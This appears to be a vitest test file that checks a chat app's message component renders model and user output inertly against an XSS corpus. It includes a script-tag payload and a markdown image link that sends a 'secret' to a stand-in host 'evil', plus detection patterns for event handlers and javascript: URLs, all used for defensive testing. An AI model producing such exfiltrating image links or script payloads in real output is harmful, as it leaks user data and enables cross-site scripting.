// Model output is untrusted. Every payload is rendered through the real message
// component; nothing may become script, event handler, javascript: URL, frame or remote image.
import { describe, expect, it } from 'vitest'
import { render } from '@testing-library/react'
import { MessageView } from '../src/components/MessageView'
import type { Message } from '../src/api/types'
import corpus from '../e2e/xss-corpus.json'

// Shared with the end-to-end suite (e2e/run.mjs).
export const XSS_CORPUS: string[] = corpus

function assistant(content: string, status = 'complete'): Message {
  return { id: 1, parent_id: null, role: 'assistant', content, status, token_in: null, token_out: null, model: null, finish_reason: null, error: null, created_at: '' }
}

function assertInert(container: HTMLElement): void {
  expect(container.querySelector('script, iframe, object, embed, style, link, meta, form, svg:not(.lucide), math, video, audio, source, input:not([type=range])')).toBeNull()
  for (const el of Array.from(container.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.toLowerCase().startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false)
      expect(attr.value.replace(/\s/g, '').toLowerCase()).not.toMatch(/^(javascript|vbscript|data):/)
      if (attr.name === 'srcdoc' || attr.name === 'xlink:href') throw new Error(`${attr.name} present`)
    }
  }
  for (const img of Array.from(container.querySelectorAll('img'))) {
    const src = img.getAttribute('src') ?? ''
    expect(src.startsWith('/') && !src.startsWith('//'), `remote image ${src}`).toBe(true)
  }
  for (const a of Array.from(container.querySelectorAll('a'))) {
    expect(a.getAttribute('href') ?? '').toMatch(/^(https?:|mailto:)/)
    expect(a.getAttribute('rel')).toContain('noopener')
    expect(a.getAttribute('rel')).toContain('noreferrer')
    expect(a.getAttribute('target')).toBe('_blank')
  }
}

describe('XSS corpus as model output', () => {
  it.each(XSS_CORPUS)('renders inert: %s', (payload) => {
    const { container } = render(<MessageView message={assistant(payload)} />)
    assertInert(container)
  })

  it('renders inert while streaming too', () => {
    const { container } = render(<MessageView message={assistant(XSS_CORPUS.join('\n\n'), 'pending')} streaming />)
    assertInert(container)
  })

  it('shows raw HTML as text, not markup', () => {
    const { container } = render(<MessageView message={assistant('<b>bold?</b> <script>x()</script>')} />)
    expect(container.querySelector('b')).toBeNull()
    expect(container.textContent).toContain('<b>bold?</b>')
  })

  it('replaces images with a placeholder that shows, but never loads, the URL', () => {
    const { container, getByRole, getByTestId } = render(<MessageView message={assistant('![x](http://evil/?q=secret)')} />)
    expect(container.querySelector('img')).toBeNull()
    getByRole('button', { name: /show address/i }).click()
    return Promise.resolve().then(() => {
      expect(getByTestId('image-url').textContent).toBe('http://evil/?q=secret')
      expect(container.querySelector('img')).toBeNull()
    })
  })

  it('treats the XSS corpus in user messages as plain text', () => {
    for (const payload of XSS_CORPUS) {
      const { container, unmount } = render(<MessageView message={{ ...assistant(payload), role: 'user' }} />)
      assertInert(container)
      expect(container.textContent).toContain(payload.slice(0, 10))
      unmount()
    }
  })
})
